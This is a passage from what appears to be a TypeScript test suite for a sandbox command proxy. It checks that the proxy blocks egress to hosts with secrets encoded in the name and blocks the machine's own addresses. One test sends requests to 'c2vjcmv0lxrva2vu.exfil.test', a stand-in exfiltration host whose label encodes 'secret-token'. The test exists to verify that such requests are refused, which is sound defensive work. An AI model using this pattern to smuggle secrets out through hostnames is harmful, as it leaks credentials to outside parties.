    const dir = tempDir("pencil-proxy-");
    const proxy = await startCommandProxy({
      socketPath: join(dir, "proxy.sock"),
      reach: async () => false,
      resolveHost: (h) => {
        resolved.push(h);
        return "127.0.0.1";
      },
    });
    const socketPath = join(dir, "proxy.sock");
    try {
      const name = "c2vjcmv0lxrva2vu.exfil.test";
      const out = await plainRequest(
        socketPath,
        `GET http://${name}/ HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n`,
      );
      expect(out).toStartWith("HTTP/1.1 403");
      let inside = "";
      const t = tlsConnect({ socket: await tunnel(socketPath, `${name}:443`), servername: name, ca: proxy.caCertPem });
      t.on("data", (d) => {
        inside += d;
      });
      t.on("secureConnect", () => t.write("GET / HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n"));
      await ended(t);
      expect(inside).toStartWith("HTTP/1.1 403");
      expect(proxy.log.map((r) => [r.host, r.allowed])).toEqual([
        [name, false],
        [name, false],
      ]);
      expect(resolved).toEqual([]);
    } finally {
      await proxy.close();
    }
  });
});

const canMakeNamespace =
  spawnSync("unshare", ["-rnm", "ip", "addr", "add", "10.99.0.1/32", "dev", "lo"], { stdio: "ignore" }).status === 0;

describe("command proxy: every address of this machine is out of reach, whatever the rules or answers", () => {
  test.skipIf(!canMakeNamespace)(
    "(needs unshare -rnm and ip: a private network namespace) the machine's second addresses, by IP, by name and in IPv6 forms, are refused and recorded; the service there receives nothing",
    () => {
      const dir = tempDir("pencil-own-address-");
      const r = spawnSync(
        "unshare",
        ["-rnm", process.execPath, join(import.meta.dir, "../fixtures/own-address-proxy.ts"), dir],
        { encoding: "utf8", timeout: 20_000 },
      );
      expect(r.stderr).toBe("");
      const out = JSON.parse(r.stdout) as {
        results: { url: string; status: string }[];
        received: string[];
        asked: string[];
        log: { url?: string; allowed: boolean; refused?: string }[];
        fetched: string;
      };
      const own = out.results.filter((x) => !x.url.includes("/elsewhere"));
      expect(own.length).toBe(12);
      for (const x of own) expect(`${x.url} ${x.status}`).toBe(`${x.url} HTTP/1.1 403 Forbidden`);
      expect(out.received).toEqual([]);
      // Addresses are refused before anyone is asked; names only once resolved, which happens after the answer.
      expect(out.asked.map((u) => new URL(u).hostname)).toEqual(["lan.pencil.test", "lan6.pencil.test", "10.77.0.1"]);
      const refusals = out.log.filter((l) => !l.allowed).map((l) => l.refused ?? "");
      expect(refusals.length).toBe(12);
      expect(refusals.filter((why) => why.includes("an address of this machine's interface lo")).length).toBe(7);
      expect(refusals.some((why) => why.includes("broadcast address of this machine's interface lo"))).toBe(true);
      // The control: an address of no interface is judged and let through (and, with no route out, not reached).
      expect(out.results.at(-1)!.status).toBe("HTTP/1.1 502 Bad Gateway");
      expect(out.log.at(-1)!.allowed).toBe(true);
      // fetch_url's and brain dump's guard: a public address that is this machine's own is refused all the same.
      expect(out.fetched).toMatch(
        /^Refused http:\/\/203\.0\.114\.7:\d+\/fetched: 203\.0\.114\.7 is an address of this machine's interface lo/,
      );
    },
  );
});
